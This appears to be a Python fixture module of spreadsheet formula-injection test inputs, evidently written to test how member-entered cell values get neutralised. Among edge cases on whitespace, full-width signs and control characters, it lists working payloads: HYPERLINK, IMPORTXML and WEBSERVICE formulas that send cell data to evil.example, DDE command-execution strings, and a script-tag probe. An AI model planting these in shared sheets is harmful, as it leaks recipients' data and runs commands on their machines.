"""What a member may type to have a spreadsheet compute it, or a page run it, when somebody else opens the sheet."""

from __future__ import annotations

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"点这里")',
    '=IMPORTXML("https://evil.example/","//a")',
    '=WEBSERVICE("https://evil.example/"&A2)',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{=1+1}",
    "=1+1",
    "+1",
    "-1",
    "@x",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "'=1+1",
    '"=1+1"',
    "=1,=2;=3",
    "%=1",
    "|=1",
    "007",
    "1e5",
    "TRUE",
    "#REF!",
    "2026-01-01",
    "<script>alert(1)</script>",
    "_x003D_1+1",
    "\u202e1+1=",
    "مرحبا =1",
    "=1\n=2",
)
"""Each stands in a cell as it is."""

PADDED = ("\t=1", " =1", "\u3000=1", "\u00a0=1", "\ufeff=1", "\r=1", "\n=1", "\r\n=1")
"""With white space ahead that programs drop before they look."""

UNHOLDABLE = ("\x00=1", "=\x001", "\x1b[31m=1", "=1\x07", "\ud800=1", "=\ufffe")
"""With characters that no cell holds: what stands there is text still."""

LONG = "=" + "1+" * 60_000 + "1"
"""Longer than any sheet's cell."""
